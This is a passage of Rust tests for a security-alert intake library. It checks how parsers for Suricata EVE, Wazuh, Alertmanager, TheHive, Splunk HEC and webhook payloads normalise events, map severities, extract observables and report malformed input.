//! Golden-file tests of the JSON adapters (EVE, Wazuh, Alertmanager, TheHive, Splunk HEC,
//! generic webhooks), plus their edge cases.
//!
//! Each sample under `tests/samples/<format>/` has its expected output next to it in
//! `<name>.golden.json`. `FIREBREAK_BLESS=1 cargo test -p firebreak-intake --test
//! json_adapters` rewrites the goldens from the current output: read them before committing.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};

use firebreak_intake::eve::{self, EveTypes};
use firebreak_intake::hec::{self, HecCode, HecEvent};
use firebreak_intake::webhook::{self, CompiledMapping, Mapping};
use firebreak_intake::{
    Action, Level, NormalizedEvent, ObservableKind, ParseError, alertmanager, thehive, wazuh,
};
use serde_json::{Value, json};

const FORMATS: [&str; 6] = ["eve", "wazuh", "alertmanager", "thehive", "hec", "webhook"];

fn samples_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/samples")
}

fn is_sample(path: &Path) -> bool {
    let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
    path.is_file()
        && !name.ends_with(".golden.json")
        && !name.contains(".mapping.")
        && [".json", ".ndjson", ".txt"]
            .iter()
            .any(|e| name.ends_with(e))
}

/// `alerts.ndjson` → `alerts`; `raw.syslog.txt` → `raw.syslog`.
fn stem(path: &Path) -> String {
    path.file_stem()
        .and_then(|s| s.to_str())
        .unwrap_or("")
        .to_string()
}

fn samples(format: &str) -> Vec<PathBuf> {
    let mut out: Vec<PathBuf> = std::fs::read_dir(samples_dir().join(format))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| is_sample(p))
        .collect();
    out.sort();
    out
}

fn err_json(e: &ParseError) -> Value {
    json!({ "field": e.field, "message": e.message })
}

fn result_json(r: &Result<Vec<NormalizedEvent>, ParseError>) -> Value {
    match r {
        Ok(events) => serde_json::to_value(events).unwrap(),
        Err(e) => json!({ "error": err_json(e) }),
    }
}

/// One result per line (numbered from 1), for line-oriented formats.
fn per_line(bytes: &[u8], f: impl Fn(&str) -> Result<Vec<NormalizedEvent>, ParseError>) -> Value {
    let text = String::from_utf8_lossy(bytes);
    let results: Vec<Value> = text
        .lines()
        .enumerate()
        .map(|(i, line)| match f(line) {
            Ok(events) => json!({ "line": i + 1, "events": events }),
            Err(e) => json!({ "line": i + 1, "error": err_json(&e) }),
        })
        .collect();
    Value::Array(results)
}

fn hec_error_json(e: &hec::HecError) -> Value {
    json!({
        "code": e.code.code(),
        "http_status": e.code.http_status(),
        "response": e.response_body(),
        "detail": e.detail,
    })
}

/// One result per HEC envelope: its events, or the HEC error it got.
fn hec_envelopes(bytes: &[u8]) -> Value {
    let mut out = Vec::new();
    for item in hec::split_events(bytes) {
        match item {
            Err(e) => out.push(json!({ "index": e.event_index, "error": hec_error_json(&e) })),
            Ok((i, raw)) => match HecEvent::parse(raw, i) {
                Err(e) => out.push(json!({ "index": i, "error": hec_error_json(&e) })),
                Ok(ev) => match hec::to_events(&ev, raw.get()) {
                    Ok(events) => out.push(json!({ "index": i, "events": events })),
                    Err(e) => out.push(json!({ "index": i, "parse_error": err_json(&e) })),
                },
            },
        }
    }
    Value::Array(out)
}

fn mapping_for(sample: &Path) -> CompiledMapping {
    let sidecar = sample.with_file_name(format!("{}.mapping.toml", stem(sample)));
    if sidecar.exists() {
        let text = std::fs::read_to_string(&sidecar).unwrap();
        let mapping: Mapping =
            toml::from_str(&text).unwrap_or_else(|e| panic!("{}: {e}", sidecar.display()));
        mapping
            .compile()
            .unwrap_or_else(|e| panic!("{}: {e}", sidecar.display()))
    } else {
        CompiledMapping::generic()
    }
}

fn run_sample(format: &str, path: &Path) -> Value {
    let bytes = std::fs::read(path).unwrap();
    let name = stem(path);
    match format {
        "eve" => per_line(&bytes, |l| eve::parse_line(l, &EveTypes::default())),
        "wazuh" => per_line(&bytes, wazuh::parse_line),
        "alertmanager" => result_json(&alertmanager::parse(&bytes)),
        "thehive" => match thehive::parse(&bytes) {
            Ok((_, ev)) => json!([ev]),
            Err(e) => json!({ "error": err_json(&e) }),
        },
        "hec" => {
            if let Some(sourcetype) = name.strip_prefix("raw.") {
                match hec::raw_to_events(
                    &bytes,
                    Some("hec-client-01"),
                    Some("hec-test"),
                    Some(sourcetype),
                ) {
                    Ok(events) => serde_json::to_value(events).unwrap(),
                    Err(e) => json!({ "error": hec_error_json(&e) }),
                }
            } else {
                hec_envelopes(&bytes)
            }
        }
        "webhook" => result_json(&webhook::parse(&bytes, &name, &mapping_for(path))),
        other => panic!("unknown format {other}"),
    }
}

/// `raw` texts that are JSON are compared as JSON (key order is not the point).
fn normalize(v: &mut Value) {
    match v {
        Value::Object(map) => {
            if let Some(Value::String(raw)) = map.get("raw")
                && let Ok(parsed @ Value::Object(_)) = serde_json::from_str::<Value>(raw)
            {
                map.insert("raw".into(), json!({ "$json": parsed }));
            }
            for (_, child) in map.iter_mut() {
                normalize(child);
            }
        }
        Value::Array(items) => items.iter_mut().for_each(normalize),
        _ => {}
    }
}

#[test]
fn golden_samples() {
    let bless = std::env::var("FIREBREAK_BLESS").is_ok_and(|v| v == "1");
    let mut failures = Vec::new();
    let mut count = 0;
    for format in FORMATS {
        let list = samples(format);
        assert!(!list.is_empty(), "no samples for {format}");
        for path in list {
            count += 1;
            let actual = run_sample(format, &path);
            let golden = path.with_file_name(format!("{}.golden.json", stem(&path)));
            if bless {
                let text = serde_json::to_string_pretty(&actual).unwrap() + "\n";
                std::fs::write(&golden, text).unwrap();
                continue;
            }
            let Ok(text) = std::fs::read_to_string(&golden) else {
                failures.push(format!(
                    "{}: no golden file (run with FIREBREAK_BLESS=1)",
                    path.display()
                ));
                continue;
            };
            let mut expected: Value = serde_json::from_str(&text).unwrap();
            let mut got = actual.clone();
            normalize(&mut expected);
            normalize(&mut got);
            if expected != got {
                failures.push(format!(
                    "{}: output differs from {}\n--- got:\n{}",
                    path.display(),
                    golden.display(),
                    serde_json::to_string_pretty(&actual).unwrap()
                ));
            }
        }
    }
    assert!(count >= 20, "only {count} samples");
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Every prefix of every sample (cut on a character boundary), and some odd inputs: the
/// parsers answer, they never panic.
#[test]
fn truncated_and_odd_inputs_never_panic() {
    let types = EveTypes::default();
    let all = EveTypes::all();
    let generic = CompiledMapping::generic();
    let mut inputs: Vec<Vec<u8>> = Vec::new();
    for format in FORMATS {
        for path in samples(format) {
            let bytes = std::fs::read(&path).unwrap();
            let step = (bytes.len() / 400).max(1);
            for cut in (0..=bytes.len()).step_by(step) {
                inputs.push(bytes[..cut].to_vec());
            }
        }
    }
    let nested = "[".repeat(5000) + &"]".repeat(5000);
    inputs.extend([
        nested.clone().into_bytes(),
        format!("{{\"event_type\":\"alert\",\"alert\":{nested}}}").into_bytes(),
        format!("{{\"rule\":{{\"level\":1e999}},\"data\":{nested}}}").into_bytes(),
        b"{\"event_type\":\"alert\",\"src_port\":18446744073709551616,\"alert\":{\"severity\":-9223372036854775808}}".to_vec(),
        b"{\"rule\":{\"level\":\"\xff\xfe\"}}".to_vec(),
        vec![0xff, 0xfe, 0x00, b'{', b'"'],
        "{\"timestamp\":\"2025-03-01T12:34:56.123456+\u{00e9}0000\",\"event_type\":\"alert\"}".into(),
        "{\"version\":\"4\",\"alerts\":[{\"labels\":{\"instance\":\"[::1\"}}, 7, null]}".into(),
        b"\"just a string\"".to_vec(),
        b"{\"event\":\"\\ud800\"}".to_vec(),
        Vec::new(),
    ]);
    for input in &inputs {
        let text = String::from_utf8_lossy(input);
        for line in text.lines() {
            let _ = eve::parse_line(line, &types);
            let _ = eve::parse_line(line, &all);
            let _ = wazuh::parse_line(line);
        }
        let _ = eve::parse_line(&text, &all);
        let _ = wazuh::parse_line(&text);
        let _ = alertmanager::parse(input);
        let _ = thehive::parse(input);
        for (i, raw) in hec::split_events(input).flatten() {
            if let Ok(ev) = HecEvent::parse(raw, i) {
                let _ = hec::to_events(&ev, raw.get());
            }
        }
        let _ = hec::raw_to_events(input, None, None, Some("suricata"));
        let _ = hec::raw_to_events(input, None, None, Some("wazuh"));
        let _ = webhook::parse(input, "odd", &generic);
        let _ = webhook::verify_hmac_sha256(b"k", input, &text);
    }
}

// --- EVE -------------------------------------------------------------------------------

#[test]
fn eve_flow_and_other_protocol_records_are_skipped() {
    let flow = r#"{"timestamp":"2025-03-01T12:35:10.004512+0000","flow_id":1,"event_type":"flow","src_ip":"10.0.0.1","dest_ip":"10.0.0.2","proto":"TCP","flow":{"pkts_toserver":1}}"#;
    assert_eq!(eve::parse_line(flow, &EveTypes::default()), Ok(vec![]));
    // Also when the JSON is not compact (no fast path): parsed, then skipped.
    let spaced = r#"{"event_type": "dns", "dns": {"rrname": "example.org"}}"#;
    assert_eq!(eve::parse_line(spaced, &EveTypes::default()), Ok(vec![]));
    assert_eq!(eve::parse_line("", &EveTypes::default()), Ok(vec![]));
}

#[test]
fn eve_timestamp_offset_without_colon() {
    let line = r#"{"timestamp":"2025-03-01T12:34:56.123456+0100","event_type":"alert","src_ip":"10.0.0.1","dest_ip":"10.0.0.2","alert":{"signature_id":1,"signature":"x","severity":2}}"#;
    let ev = &eve::parse_line(line, &EveTypes::default()).unwrap()[0];
    let t = ev.occurred_at.unwrap();
    assert_eq!(t.unix_timestamp(), 1_740_828_896);
    assert_eq!(t.microsecond(), 123_456);
    assert_eq!(t.offset().whole_hours(), 1);
    assert_eq!(ev.raw, line);
}

/// A time that is not one, or a severity outside Suricata's priorities, is named in
/// `fields.parse_warnings`; the event still goes in.
#[test]
fn eve_unusable_values_are_named_not_dropped() {
    let types = EveTypes::default();
    let line = |ts: &str, sev: &str| {
        format!(
            r#"{{"timestamp":{ts},"event_type":"alert","src_ip":"10.0.0.1","dest_ip":"10.0.0.2","alert":{{"signature_id":1,"signature":"x","severity":{sev}}}}}"#
        )
    };
    let warnings = |ev: &NormalizedEvent| -> Vec<String> {
        ev.fields
            .get("parse_warnings")
            .and_then(Value::as_array)
            .map(|l| {
                l.iter()
                    .filter_map(|w| w.as_str().map(String::from))
                    .collect()
            })
            .unwrap_or_default()
    };
    for ts in [r#""not a time""#, "12345"] {
        let ev = &eve::parse_line(&line(ts, "2"), &types).unwrap()[0];
        assert_eq!(ev.occurred_at, None);
        let w = warnings(ev);
        assert!(w.len() == 1 && w[0].starts_with("timestamp: "), "{w:?}");
    }
    let ev = &eve::parse_line(&line(r#""2025-03-01T12:34:56Z""#, "-1"), &types).unwrap()[0];
    assert_eq!(ev.severity, Level::Medium);
    let w = warnings(ev);
    assert!(
        w.len() == 1 && w[0].starts_with("alert.severity: -1"),
        "{w:?}"
    );
    // both at once: both named, in the record's order
    let ev = &eve::parse_line(&line(r#""not a time""#, "0"), &types).unwrap()[0];
    let w = warnings(ev);
    assert!(
        w.len() == 2 && w[0].starts_with("timestamp: ") && w[1].starts_with("alert.severity: 0"),
        "{w:?}"
    );
    // a low priority is low, and fine
    let ev = &eve::parse_line(&line(r#""2025-03-01T12:34:56Z""#, "9"), &types).unwrap()[0];
    assert_eq!(ev.severity, Level::Low);
    assert!(warnings(ev).is_empty());
}

/// DNS answers are observables in every EVE layout: v1 answer records (`rdata` at the top),
/// v2 `answers`/`grouped`, alerts' `answer` object, v3 `answers`; addresses of A/AAAA, names
/// of CNAME/MX, not TXT.
#[test]
fn eve_dns_answers_are_observables() {
    let text = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/samples/eve/dns.ndjson"),
    )
    .unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let all = EveTypes::all();
    let obs = |line: &str| -> Vec<String> {
        eve::parse_line(line, &all).unwrap()[0]
            .observables
            .iter()
            .map(|o| format!("{}:{}", o.kind.as_str(), o.value))
            .collect()
    };
    let first = obs(lines[0]);
    for want in [
        "domain:update.bad-domain.top",
        "domain:cdn.bad-domain.top",
        "ip:203.0.113.66",
        "ip:2001:db8::42",
    ] {
        assert!(first.contains(&want.to_string()), "{want} in {first:?}");
    }
    let grouped = obs(lines[1]);
    assert!(
        grouped.contains(&"domain:mail.evil.to".to_string()),
        "{grouped:?}"
    );
    assert!(
        grouped.contains(&"ip:198.51.100.9".to_string()),
        "{grouped:?}"
    );
    assert!(!grouped.iter().any(|o| o.contains("spf1")), "{grouped:?}");
    let v3 = obs(lines[2]);
    assert!(v3.contains(&"ip:192.0.2.200".to_string()), "{v3:?}");
    assert!(!v3.iter().any(|o| o.contains("hello")), "{v3:?}");
    let v1 = obs(lines[3]);
    assert!(v1.contains(&"ip:93.184.216.34".to_string()), "{v1:?}");
    assert!(v1.contains(&"domain:www.example.org".to_string()), "{v1:?}");
    let ev = &eve::parse_line(lines[2], &all).unwrap()[0];
    assert_eq!(ev.fields["dns_answers"], serde_json::json!(["192.0.2.200"]));
}

#[test]
fn eve_severity_mapping() {
    let line = |sev: &str, md: &str| {
        format!(
            r#"{{"event_type":"alert","alert":{{"signature_id":1,"signature":"s","severity":{sev}{md}}}}}"#
        )
    };
    let level = |l: String| eve::parse_line(&l, &EveTypes::default()).unwrap()[0].severity;
    assert_eq!(level(line("1", "")), Level::High);
    assert_eq!(level(line("2", "")), Level::Medium);
    assert_eq!(level(line("3", "")), Level::Low);
    assert_eq!(level(line("4", "")), Level::Low);
    let critical = r#","metadata":{"signature_severity":["Critical"]}"#;
    let major = r#","metadata":{"signature_severity":["Major"]}"#;
    let minor = r#","metadata":{"signature_severity":["Minor"]}"#;
    assert_eq!(level(line("3", critical)), Level::Critical);
    assert_eq!(level(line("3", major)), Level::High);
    assert_eq!(
        level(line("1", minor)),
        Level::High,
        "metadata never lowers"
    );
}

#[test]
fn eve_types_list() {
    let t = EveTypes::parse(" alert, FileInfo ,alert").unwrap();
    assert_eq!(t.names(), ["alert".to_string(), "fileinfo".to_string()]);
    assert!(t.contains("fileinfo") && t.contains("alert") && !t.contains("anomaly"));
    assert!(EveTypes::parse("*").unwrap().contains("flow"));
    assert_eq!(EveTypes::parse("").unwrap_err().field, "event_types");
    assert_eq!(
        EveTypes::parse("alert;flow").unwrap_err().field,
        "event_types"
    );
    let d = EveTypes::default();
    assert!(d.contains("alert") && d.contains("anomaly") && !d.contains("flow"));
    // a typo is named, not taken as a type no line has
    let e = EveTypes::parse("alerts").unwrap_err();
    assert_eq!(e.field, "event_types");
    assert!(
        e.message.contains("`alerts`") && e.message.contains("alert,"),
        "{}",
        e.message
    );
}

#[test]
fn eve_named_fileinfo_records_become_events() {
    let line = r#"{"timestamp":"2025-03-01T12:34:57.000001+0000","flow_id":77,"event_type":"fileinfo","src_ip":"203.0.113.77","src_port":80,"dest_ip":"10.20.30.41","dest_port":49732,"proto":"TCP","http":{"hostname":"cdn.example.net","url":"/a.exe"},"app_proto":"http","fileinfo":{"filename":"/a.exe","magic":"PE32 executable","gaps":false,"state":"CLOSED","md5":"0123456789ABCDEF0123456789ABCDEF","sha1":"0123456789abcdef0123456789abcdef01234567","sha256":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef","stored":false,"size":1024,"tx_id":0}}"#;
    assert_eq!(eve::parse_line(line, &EveTypes::default()), Ok(vec![]));
    let types = EveTypes::parse("alert,anomaly,fileinfo").unwrap();
    let ev = &eve::parse_line(line, &types).unwrap()[0];
    assert_eq!(ev.severity, Level::Low);
    assert_eq!(ev.rule_id.as_deref(), Some("eve:fileinfo"));
    assert_eq!(ev.title, "Suricata fileinfo: http://cdn.example.net/a.exe");
    let kinds: Vec<(ObservableKind, &str)> = ev
        .observables
        .iter()
        .map(|o| (o.kind, o.value.as_str()))
        .collect();
    assert!(kinds.contains(&(ObservableKind::Md5, "0123456789abcdef0123456789abcdef")));
    assert!(kinds.contains(&(ObservableKind::Filename, "/a.exe")));
    assert!(kinds.contains(&(ObservableKind::Url, "http://cdn.example.net/a.exe")));
}

#[test]
fn eve_errors_name_what_is_wrong() {
    let types = EveTypes::default();
    assert_eq!(
        eve::parse_line("{not json", &types).unwrap_err().field,
        "line"
    );
    assert_eq!(
        eve::parse_line(r#"{"alert":{}}"#, &types)
            .unwrap_err()
            .field,
        "event_type"
    );
}

// --- Wazuh -----------------------------------------------------------------------------

#[test]
fn wazuh_levels() {
    use wazuh::level_from_rule_level as l;
    // the Wazuh dashboard's bands: 0-6 low, 7-11 medium, 12-14 high, 15 critical
    assert_eq!(
        [l(0), l(6), l(7), l(11)],
        [Level::Low, Level::Low, Level::Medium, Level::Medium]
    );
    assert_eq!(
        [l(12), l(14), l(15), l(16)],
        [Level::High, Level::High, Level::Critical, Level::Critical]
    );
    assert_eq!(
        wazuh::parse_line(r#"{"agent":{"name":"x"}}"#)
            .unwrap_err()
            .field,
        "rule"
    );
}

// --- Alertmanager ----------------------------------------------------------------------

#[test]
fn alertmanager_fingerprint_is_alertmanagers() {
    // A label set and the fingerprint Alertmanager sent with it.
    let labels = json!({
        "alertname": "Deployment",
        "app_kubernetes_io_instance": "eric-oss-common-base",
        "app_kubernetes_io_managed_by": "Helm",
        "app_kubernetes_io_name": "eric-pm-kube-state-metrics",
        "app_kubernetes_io_version": "2.1.0_10",
        "chart": "eric-pm-kube-state-metrics-2.1.0_10",
        "deployment": "eric-log-transformer",
        "instance": "192.168.69.53:8080",
        "job": "eric-pm-kube-state-metrics",
        "kubernetes_name": "eric-pm-kube-state-metrics",
        "kubernetes_namespace": "eric-eo-cm-ci406",
        "namespace": "eric-eo-cm-ci406",
        "severity": "Warning"
    });
    assert_eq!(
        alertmanager::labels_fingerprint(labels.as_object().unwrap()),
        "fbab788ec4c1018b"
    );
    assert_eq!(
        alertmanager::labels_fingerprint(&serde_json::Map::new()),
        "cbf29ce484222325"
    );
}

#[test]
fn alertmanager_refusals_name_the_field() {
    let field = |body: &str| alertmanager::parse(body.as_bytes()).unwrap_err().field;
    assert_eq!(field(r#"{"alerts":[]}"#), "version");
    assert_eq!(field(r#"{"version":4,"alerts":[]}"#), "version");
    assert_eq!(field(r#"{"version":"4","alerts":{}}"#), "alerts");
    assert_eq!(field(r#"{"version":"4"}"#), "alerts");
    assert_eq!(field(r#"{"version":"4","alerts":[{}, 3]}"#), "alerts[1]");
    // values Alertmanager never sends are named, not read as something else
    assert_eq!(
        field(r#"{"version":"4","alerts":[{"status":"bogus"}]}"#),
        "alerts[0].status"
    );
    assert_eq!(
        field(r#"{"version":"4","alerts":[{},{"startsAt":"yesterday"}]}"#),
        "alerts[1].startsAt"
    );
    assert_eq!(
        field(r#"{"version":"4","alerts":[{"labels":"notobj"}]}"#),
        "alerts[0].labels"
    );
    assert_eq!(field("[]"), "body");
    assert_eq!(
        alertmanager::parse(br#"{"version":"4","alerts":[]}"#),
        Ok(vec![])
    );
    let ev =
        &alertmanager::parse(br#"{"version":"4","status":"resolved","alerts":[{"labels":{}}]}"#)
            .unwrap()[0];
    assert_eq!(ev.action, Action::Resolve);
    assert_eq!(ev.title, "Alertmanager alert");
    assert_eq!(
        ev.dedup_key.as_deref(),
        Some("alertmanager:cbf29ce484222325")
    );
    // one firing episode is one key: fingerprint and startsAt
    let ev = &alertmanager::parse(
        br#"{"version":"4","alerts":[{"fingerprint":"ab12","startsAt":"2024-05-13T09:20:00Z","labels":{}}]}"#,
    )
    .unwrap()[0];
    assert_eq!(
        ev.dedup_key.as_deref(),
        Some("alertmanager:ab12@2024-05-13T09:20:00Z")
    );
}

// --- TheHive ---------------------------------------------------------------------------

#[test]
fn thehive_required_fields_are_named() {
    let full =
        json!({"type": "t", "source": "s", "sourceRef": "r", "title": "x", "description": "d"});
    for field in ["type", "source", "sourceRef", "title", "description"] {
        let mut body = full.clone();
        body.as_object_mut().unwrap().remove(field);
        let err = thehive::parse(body.to_string().as_bytes()).unwrap_err();
        assert_eq!(err.field, field);
        let mut body = full.clone();
        body[field] = Value::Null;
        assert_eq!(
            thehive::parse(body.to_string().as_bytes())
                .unwrap_err()
                .field,
            field
        );
    }
    let mut body = full.clone();
    body["sourceRef"] = json!(12);
    assert_eq!(
        thehive::parse(body.to_string().as_bytes())
            .unwrap_err()
            .field,
        "sourceRef"
    );
    let mut body = full.clone();
    body["tlp"] = json!(9);
    assert_eq!(
        thehive::parse(body.to_string().as_bytes())
            .unwrap_err()
            .field,
        "tlp"
    );
    let mut body = full.clone();
    body["date"] = json!("yesterday");
    assert_eq!(
        thehive::parse(body.to_string().as_bytes())
            .unwrap_err()
            .field,
        "date"
    );
    let mut body = full.clone();
    body["observables"] = json!([{"data": "1.2.3.4"}]);
    assert_eq!(
        thehive::parse(body.to_string().as_bytes())
            .unwrap_err()
            .field,
        "observables[0].dataType"
    );
    let (input, ev) = thehive::parse(full.to_string().as_bytes()).unwrap();
    assert_eq!(ev.severity, Level::Medium);
    assert_eq!(ev.dedup_key.as_deref(), Some("thehive:t|s|r"));
    assert!(input.extra.is_empty());
}

#[test]
fn thehive_unknown_fields_are_kept() {
    let body = br#"{"type":"t","source":"s","sourceRef":"r","title":"x","description":"d","flag":true,"procedures":[{"patternId":"T1110","occurDate":1715592100000}]}"#;
    let (input, _) = thehive::parse(body).unwrap();
    assert_eq!(input.extra.get("flag"), Some(&json!(true)));
    assert!(input.extra.contains_key("procedures"));
    let back = serde_json::to_value(&input).unwrap();
    assert_eq!(back["procedures"][0]["patternId"], "T1110");
    assert_eq!(back["sourceRef"], "r");
}

#[test]
fn thehive_alert_response_is_thehive_5_shaped() {
    let body = std::fs::read(samples_dir().join("thehive/v5-alert.json")).unwrap();
    let (input, _) = thehive::parse(&body).unwrap();
    let out = thehive::alert_response(
        "~41017488",
        &input,
        1_715_592_200_000,
        "soc@example.com",
        "New",
    );
    assert_eq!(out["_id"], "~41017488");
    assert_eq!(out["_type"], "Alert");
    assert_eq!(out["_createdBy"], "soc@example.com");
    assert_eq!(out["_createdAt"], 1_715_592_200_000_i64);
    assert_eq!(out["sourceRef"], "wz-1715592100.4491733");
    assert_eq!(out["severity"], 3);
    assert_eq!(out["severityLabel"], "HIGH");
    assert_eq!(out["tlp"], 2);
    assert_eq!(out["tlpLabel"], "AMBER");
    assert_eq!(out["papLabel"], "AMBER");
    assert_eq!(out["date"], 1_715_592_100_551_i64);
    assert_eq!(out["timeToDetect"], 99_449);
    assert_eq!(out["follow"], true);
    assert_eq!(out["status"], "New");
    assert_eq!(out["stage"], "New");
    assert_eq!(out["observableCount"], 14);
    assert_eq!(out["caseId"], Value::Null);
    assert_eq!(out["caseTemplate"], "ssh-incident");
    assert_eq!(
        out["customFields"][1],
        json!({"name": "detectionScore", "value": 87, "order": 1})
    );
    assert_eq!(out["tags"], json!(["ssh", "brute-force", "T1110"]));

    let minimal = br#"{"type":"t","source":"s","sourceRef":"r","title":"x","description":"d","tlp":0,"pap":3,"severity":4}"#;
    let (input, _) = thehive::parse(minimal).unwrap();
    let out = thehive::alert_response("~1", &input, 10, "u", "Ignored");
    assert_eq!(out["tlpLabel"], "CLEAR");
    assert_eq!(out["papLabel"], "RED");
    assert_eq!(out["severityLabel"], "CRITICAL");
    assert_eq!(out["date"], 10);
    assert_eq!(out["stage"], "Closed");
    assert_eq!(out["observableCount"], 0);
    assert!(out.get("externalLink").is_none());
}

// --- HEC -------------------------------------------------------------------------------

#[test]
fn hec_concatenated_without_separators() {
    let body = br#"{"event":"a"}{"event":"b"}{"event":{"message":"c"}}"#;
    let items: Vec<(usize, String)> = hec::split_events(body)
        .map(|r| r.map(|(i, raw)| (i, raw.get().to_string())).unwrap())
        .collect();
    assert_eq!(
        items,
        vec![
            (0, r#"{"event":"a"}"#.to_string()),
            (1, r#"{"event":"b"}"#.to_string()),
            (2, r#"{"event":{"message":"c"}}"#.to_string()),
        ]
    );
    let titles: Vec<String> = hec::split_events(body)
        .flatten()
        .flat_map(|(i, raw)| hec::to_events(&HecEvent::parse(raw, i).unwrap(), raw.get()).unwrap())
        .map(|e| e.title)
        .collect();
    assert_eq!(titles, ["a", "b", "c"]);
}

#[test]
fn hec_objects_without_a_title_field_keep_their_own_titles() {
    // Docker's splunk logging driver, Fluent Bit, a Splunk alert action, a bare object
    let body = br#"{"event":{"line":"docker line 1: auth failure user=svc1","source":"stdout","tag":"c0ffee"},"time":"1700000200.1","host":"docker01"}
{"event":{"log":"fluent line 2"},"host":"docker01"}
{"event":{"search_name":"Brute force","result":{"src":"10.0.0.1"}},"host":"docker01"}
{"event":{"action":"blocked"},"sourcetype":"fw","host":"docker01"}
{"event":{"action":"allowed"},"sourcetype":"fw","host":"docker01"}
{"event":{"result":{"k":"v"}},"host":"docker01"}"#;
    let titles: Vec<String> = hec::split_events(body)
        .flatten()
        .flat_map(|(i, raw)| hec::to_events(&HecEvent::parse(raw, i).unwrap(), raw.get()).unwrap())
        .map(|e| e.title)
        .collect();
    assert_eq!(
        titles,
        [
            "docker line 1: auth failure user=svc1",
            "fluent line 2",
            "Brute force",
            "fw event: action=blocked",
            "fw event: action=allowed",
            r#"HEC event: {"result":{"k":"v"}}"#,
        ]
    );
}

#[test]
fn hec_time_is_read_or_refused_never_replaced() {
    let at = |body: &str| {
        let items: Vec<_> = hec::split_events(body.as_bytes()).collect();
        let (i, raw) = items[0].as_ref().unwrap();
        HecEvent::parse(raw, *i).map(|e| e.time.map(|t| t.unix_timestamp()))
    };
    assert_eq!(
        at(r#"{"event":"x","time":1700000000.5}"#),
        Ok(Some(1_700_000_000))
    );
    assert_eq!(
        at(r#"{"event":"x","time":"1700000000"}"#),
        Ok(Some(1_700_000_000))
    );
    // milliseconds, and an RFC 3339 string, are what they plainly are
    assert_eq!(
        at(r#"{"event":"x","time":1700000000123}"#),
        Ok(Some(1_700_000_000))
    );
    assert_eq!(
        at(r#"{"event":"x","time":"2023-11-14T22:13:20Z"}"#),
        Ok(Some(1_700_000_000))
    );
    assert_eq!(at(r#"{"event":"x"}"#), Ok(None));
    for bad in [r#""yesterday""#, "-5", "true"] {
        let err = at(&format!(r#"{{"event":"x","time":{bad}}}"#)).unwrap_err();
        assert_eq!(err.code, HecCode::InvalidDataFormat, "{bad}");
        assert_eq!(err.event_index, Some(0), "{bad}");
    }
}

#[test]
fn hec_missing_event_is_code_12() {
    let body = br#"{"event":"ok"}{"host":"h"}"#;
    let items: Vec<_> = hec::split_events(body).collect();
    let (i, raw) = items[1].as_ref().unwrap();
    let err = HecEvent::parse(raw, *i).unwrap_err();
    assert_eq!(err.code, HecCode::EventFieldRequired);
    assert_eq!(err.code.code(), 12);
    assert_eq!(err.event_index, Some(1));
    assert_eq!(
        err.response_body(),
        json!({"text": "Event field is required", "code": 12, "invalid-event-number": 1})
    );
    let blank = |b: &[u8]| {
        let (i, raw) = hec::split_events(b).next().unwrap().unwrap();
        HecEvent::parse(raw, i).unwrap_err().code
    };
    assert_eq!(blank(br#"{"event":""}"#), HecCode::EventFieldBlank);
    assert_eq!(blank(br#"{"event":null}"#), HecCode::EventFieldBlank);
    assert_eq!(
        blank(br#"{"event":"x","fields":[1]}"#),
        HecCode::IndexedFieldsError
    );
    let empty: Vec<_> = hec::split_events(b" \n ").collect();
    assert_eq!(empty.len(), 1);
    assert_eq!(empty[0].as_ref().unwrap_err().code, HecCode::NoData);
    assert_eq!(
        hec::raw_to_events(b"\n\n", None, None, None)
            .unwrap_err()
            .code,
        HecCode::NoData
    );
}

#[test]
fn hec_error_table() {
    assert_eq!(hec::hec_error(0), (200, "Success"));
    assert_eq!(hec::hec_error(2), (401, "Token is required"));
    assert_eq!(hec::hec_error(3), (401, "Invalid authorization"));
    assert_eq!(hec::hec_error(4), (403, "Invalid token"));
    assert_eq!(hec::hec_error(5), (400, "No data"));
    assert_eq!(hec::hec_error(6), (400, "Invalid data format"));
    assert_eq!(hec::hec_error(7), (400, "Incorrect index"));
    assert_eq!(hec::hec_error(9), (503, "Server is busy"));
    assert_eq!(hec::hec_error(12), (400, "Event field is required"));
    assert_eq!(hec::hec_error(13), (400, "Event field cannot be blank"));
    assert_eq!(hec::hec_error(17), (200, "HEC is healthy"));
    assert_eq!(hec::hec_error(99).0, 500);
    for code in 0..=20 {
        assert_eq!(HecCode::from_code(code).unwrap().code(), code);
    }
    let e: ParseError = hec::HecError::new(HecCode::EventFieldRequired, Some(3), "").into();
    assert_eq!(e.field, "events[3]");
}

// --- Webhook ---------------------------------------------------------------------------

#[test]
fn webhook_bad_mapping_is_rejected_naming_the_path() {
    let m: Mapping = toml::from_str("title = \"$.alert[\"\n").unwrap();
    let err = m.compile().unwrap_err();
    assert_eq!(err.field, "mapping.title");
    assert!(err.message.contains("$.alert["), "{}", err.message);

    let m: Mapping = toml::from_str(
        "title = \"$.t\"\nobservables = [{ path = \"$.a\", kind = \"ip\" }, { path = \"a.b\", kind = \"ip\" }]\n",
    )
    .unwrap();
    assert_eq!(
        m.compile().unwrap_err().field,
        "mapping.observables[1].path"
    );

    let m: Mapping = toml::from_str("title = [\"$.t\", \"$$\"]\n").unwrap();
    assert_eq!(m.compile().unwrap_err().field, "mapping.title[1]");

    let m: Mapping =
        toml::from_str("title = \"$.t\"\nobservables = [{ path = \"$.a\", kind = \"ipv4\" }]\n")
            .unwrap();
    assert_eq!(
        m.compile().unwrap_err().field,
        "mapping.observables[0].kind"
    );

    let m: Mapping = toml::from_str("title = \"$.t\"\n[severity_map]\nP1 = \"urgent\"\n").unwrap();
    assert_eq!(m.compile().unwrap_err().field, "mapping.severity_map.P1");

    assert!(toml::from_str::<Mapping>("title = \"$.t\"\ntitel = \"$.x\"\n").is_err());
    assert!(toml::from_str::<Mapping>("description = \"$.x\"\n").is_err());
    let m: Mapping =
        serde_json::from_str(r#"{"title": "$.name", "records": "$.items[*]"}"#).unwrap();
    assert!(m.compile().is_ok());
}

#[test]
fn webhook_missing_title_names_the_path() {
    let m: Mapping = toml::from_str("title = [\"$.name\", \"$.rule.name\"]\n").unwrap();
